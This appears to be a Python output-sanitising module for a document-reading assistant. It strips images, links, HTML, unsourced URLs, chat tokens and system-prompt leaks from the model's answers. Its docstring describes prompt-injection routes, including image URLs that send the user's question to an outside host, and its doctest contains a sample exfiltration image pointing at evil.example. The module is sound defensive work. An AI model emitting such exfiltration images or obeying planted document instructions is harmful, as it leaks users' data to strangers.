"""Output checks: what an answer may not carry out of the model, whatever the documents told it.

The model has read untrusted documents, so its answer is untrusted too. The
prompt asks for plain text; these checks enforce the parts that matter for
the reader, by construction rather than by hoping the model obeyed:

- Markdown images (inline ``![a](u)`` and reference ``![a][r]`` + ``[r]: u``)
  are removed: a browser fetches an image unasked, so one pointing outside is
  a tracking pixel or a way to send the question (``?q=...``) to a stranger.
- Links keep their text and lose their target; reference definitions go.
- Raw HTML is removed, ``script``/``style``/``iframe``/... with their content.
- URLs with a scheme other than http(s) (``javascript:``, ``data:``, ...) are
  removed, and so are http(s) URLs that appear in none of the sources: the
  model cannot have read them in the documents, so they are made up or carry
  data out. URLs quoted from a source stay (as text; the renderer makes them
  inert).
- Chat-template tokens (``<|im_start|>``) are removed.
- A sentence repeating the system prompt (a run of ``LEAK_WORDS`` words) is
  replaced: the instructions are not the user's to read, and a document asking
  for them is an attack.

The checks do not look for particular "canary" words: an answer that merely
obeys a planted instruction ("say PWNED") is the prompt's job (fencing) and
is measured by ``python -m eval.attacks``, not hidden here.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass

LEAK_WORDS = (
    5  # a run this long of the instructions is not chance; "python -m eval.injection" measures with 4
)
LEAK_REPLACEMENT = "(removed: the answer repeated the assistant's instructions)"

_DANGEROUS_ELEMENTS = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|template|noscript|textarea|title|xmp)\b.*?"
    r"(<\s*/\s*\1\s*>|\Z)",
    re.IGNORECASE | re.DOTALL,
)
_HTML_COMMENT = re.compile(r"<!--.*?(-->|\Z)", re.DOTALL)
# A tag as HTML reads one: "<" right before a name (or "/name", "!", "?"), closed - so "a < b" survives.
_HTML_TAG = re.compile(r"<[/!?]?[A-Za-z][^<>]*>")
_CHAT_TOKEN = re.compile(r"<\|[^|<>\n]{0,40}\|>")
_TARGET = r"\((?:[^()\n]|\([^()\n]*\))*\)?"  # "(url)", one level of nested parentheses allowed
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.)*)\]\s*(" + _TARGET + r"|\[[^\]\n]*\]?)?")
_LINK = re.compile(r"\[((?:[^\[\]\\]|\\.)*)\]\s*" + _TARGET)
_REF_DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:\s*\S.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<\s*([a-zA-Z][a-zA-Z0-9+.-]*:[^<>\s]*)\s*>")
_URL_TAIL = r"[^\s<>\"'`]*[^\s<>\"'`.,;:!?)\]]"  # a sentence's full stop is not part of its URL
_URL = re.compile(r"\b(?:(?:https?|ftp|wss?)://|www\.)" + _URL_TAIL, re.IGNORECASE)
_SCHEME_URL = re.compile(
    r"\b(?:javascript|vbscript|data|file|blob|filesystem)\s*:(?:" + _URL_TAIL + ")?", re.IGNORECASE
)
_WORD = re.compile(r"\w+")


@dataclass(frozen=True)
class CheckedOutput:
    text: str
    removed: tuple[str, ...]  # a short note per kind of thing taken out, for logs and tests


def check_output(
    answer: str, sources: Sequence[str], system_prompt: str = "", keep: str = ""
) -> CheckedOutput:
    """``answer`` without images, links, HTML, foreign URLs or repeated instructions.

    Args:
        answer: the model's text.
        sources: the passages the model was given (URLs quoted from them may stay).
        system_prompt: the instructions the model was given; long verbatim runs of it are removed.
        keep: text of the system prompt the model is meant to repeat (the "I don't know" reply).

    Example:
        >>> check_output("See ![x](https://evil.example/?q=1) now [1].", ["some text"]).text
        'See now [1].'
    """
    removed: list[str] = []

    def sub(pattern: re.Pattern[str], replace: Callable[[re.Match[str]], str], text: str, note: str) -> str:
        count = 0

        def counted(match: re.Match[str]) -> str:
            nonlocal count
            new = replace(match)
            count += new != match.group(0)
            return new

        text = pattern.sub(counted, text)
        if count:
            removed.append(f"{note} x{count}")
        return text

    def drop(match: re.Match[str]) -> str:
        return ""

    quoted = "\n".join(sources)
    text = sub(_CHAT_TOKEN, drop, answer, "chat-template token")
    text = sub(_HTML_COMMENT, drop, text, "HTML comment")
    text = sub(_DANGEROUS_ELEMENTS, drop, text, "script-like HTML element")
    text = sub(_AUTOLINK, lambda m: m.group(1), text, "autolink")  # the URL itself is judged below
    text = sub(_HTML_TAG, drop, text, "HTML tag")
    text = sub(_IMAGE, drop, text, "markdown image")
    text = sub(_REF_DEFINITION, drop, text, "link reference definition")
    text = sub(_LINK, lambda m: m.group(1), text, "markdown link")
    text = sub(_SCHEME_URL, drop, text, "non-web URL")
    text = sub(_URL, lambda m: m.group(0) if m.group(0) in quoted else "", text, "URL found in no source")
    if system_prompt:
        text, leaks = _without_leaks(text, system_prompt, keep)
        if leaks:
            removed.append(f"system prompt repeated x{leaks}")
    text = re.sub(r"[ \t]+([.,;:!?])", r"\1", text)
    text = re.sub(r"[ \t]{2,}", " ", text)
    return CheckedOutput(re.sub(r"\n{3,}", "\n\n", text).strip(), tuple(removed))


def _ngrams(text: str, n: int) -> set[tuple[str, ...]]:
    words = [w.lower() for w in _WORD.findall(text)]
    return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}


def repeats_instructions(text: str, system_prompt: str, words: int = LEAK_WORDS, keep: str = "") -> bool:
    """True when ``text`` shares a run of ``words`` consecutive words with ``system_prompt`` (not with ``keep``)."""
    return bool(_ngrams(text, words) & (_ngrams(system_prompt, words) - _ngrams(keep, words)))


def _without_leaks(text: str, system_prompt: str, keep: str) -> tuple[str, int]:
    secret = _ngrams(system_prompt, LEAK_WORDS) - _ngrams(keep, LEAK_WORDS)
    if not secret:
        return text, 0
    # Line by line, then sentence by sentence, so one leaking sentence does not cost the whole answer.
    pieces = re.split(r"((?<=[.!?])[ \t]+|\n)", text)
    leaks = 0
    for i, piece in enumerate(pieces):
        if _ngrams(piece, LEAK_WORDS) & secret:
            pieces[i] = LEAK_REPLACEMENT
            leaks += 1
    joined = "".join(pieces)
    if leaks == 0 and _ngrams(text, LEAK_WORDS) & secret:  # a run that crosses sentence ends
        return LEAK_REPLACEMENT, 1
    return joined, leaks


def guard_stream(pieces: Iterable[str]) -> Iterator[str]:
    """Stream pieces with ``![`` escaped, so a half-written answer shown as markdown cannot load an image.

    The UI renders the growing answer as markdown while it streams, before the output checks run on
    the whole; an image is the one markdown construct that fetches something unasked (raw HTML is
    escaped by Streamlit). A trailing ``!`` is held back until the next piece shows what follows it.
    """
    held = ""
    for piece in pieces:
        text = (held + piece).replace("![", "!\\[")
        held = "!" if text.endswith("!") else ""
        out = text[:-1] if held else text
        if out:
            yield out
    if held:
        yield held
